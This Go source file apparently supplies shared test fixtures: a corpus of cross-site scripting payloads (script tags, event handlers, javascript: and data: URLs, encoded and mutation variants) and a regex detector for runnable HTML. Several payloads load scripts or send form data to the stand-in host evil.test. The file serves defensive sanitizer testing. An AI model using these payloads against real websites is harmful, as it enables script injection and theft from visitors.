// Package xss holds the XSS corpus the operator-HTML tests share and a check
// for what a browser could run.
package xss

import (
	"regexp"
	"strings"
)

// Corpus is operator HTML that tries to run code in a visitor's browser:
// scripts, event handlers, javascript: and data: URLs, style expressions,
// frames and their encoded variants.
var Corpus = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="/media/a.svg" onload="alert(1)">`,
	`<body onload=alert(1)>`,
	`<svg onload=alert(1)><circle/></svg>`,
	`<div onclick="alert(1)" onmouseover='alert(2)'>x</div>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	`<div style="width: expression(alert(1))">x</div>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<style>body{background:url("javascript:alert(1)")}</style>`,
	`<p style="-moz-binding:url(//evil.test/x.xml#x)">x</p>`,
	`<iframe src="https://evil.test"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="x.swf"></object><embed src="x.swf">`,
	`<form action="https://evil.test"><input name=p></form>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="https://evil.test/">`,
	`<link rel=stylesheet href="https://evil.test/x.css">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<!--<img src=x onerror=alert(1)>-->`,
	`<a href="#" onfocus=alert(1) autofocus>x</a>`,
	`"><script>alert(1)</script>`,
	`<img """><script>alert(1)</script>">`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<input autofocus onfocus=alert(1)>`,
	`<select autofocus onfocus=alert(1)>`,
	`<textarea autofocus onfocus=alert(1)>`,
	`<keygen autofocus onfocus=alert(1)>`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	`<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
	`<a href="  javascript:alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
	`<a href=javascript:alert(1)>x</a>`,
	`<a href="//evil.test">x</a>`,
	`<img src="javascript:alert(1)">`,
	`<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
	`<img/src="x"/onerror=alert(1)>`,
	`<img src="x" onerror  =  "alert(1)">`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<xss style="behavior: url(x.htc)">`,
	`<div style="background-image: url(&#1;javascript:alert(1))">x</div>`,
	`<span style=color:red;background:url(javascript:alert(1))>x</span>`,
	`<object type="text/x-scriptlet" data="https://evil.test/x.sct"></object>`,
	`<frameset><frame src="javascript:alert(1)"></frameset>`,
	`<applet code="x.class"></applet>`,
	`<template><script>alert(1)</script></template>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>`,
	`<<script>alert(1)//<</script>`,
	`<script/xss src="https://evil.test/x.js"></script>`,
	`<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>`,
	`<a href="mailto:x@example.com" onclick="alert(1)">m</a>`,
	`<p title="x" onmouseenter="alert(1)">hover</p>`,
	`<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>`,
	`javascript:alert(1)`,
	`<plaintext><script>alert(1)</script>`,
}

var dangerous = []*regexp.Regexp{
	regexp.MustCompile(`(?i)<\s*(script|style|iframe|object|embed|form|input|meta|base|link|svg|math|body)\b`),
	regexp.MustCompile(`(?i)<[^>]*\son[a-z]+\s*=`),
	regexp.MustCompile(`(?i)<[^>]*\sstyle\s*=`),
	regexp.MustCompile(`(?i)<[^>]*\s(srcdoc|action|formaction|data)\s*=`),
	regexp.MustCompile(`(?i)<[^>]*(href|src)\s*=\s*["']?\s*(javascript|vbscript|data):`),
	regexp.MustCompile(`(?i)<[^>]*(href|src)\s*=\s*["']?[^"'>]*&#`),
}

// Dangerous returns the first part of html a browser could run, or "".
func Dangerous(html string) string {
	for _, re := range dangerous {
		if m := re.FindString(html); m != "" {
			return m
		}
	}
	if strings.Contains(strings.ToLower(html), "expression(") && strings.Contains(html, "style") {
		return "expression("
	}
	return ""
}
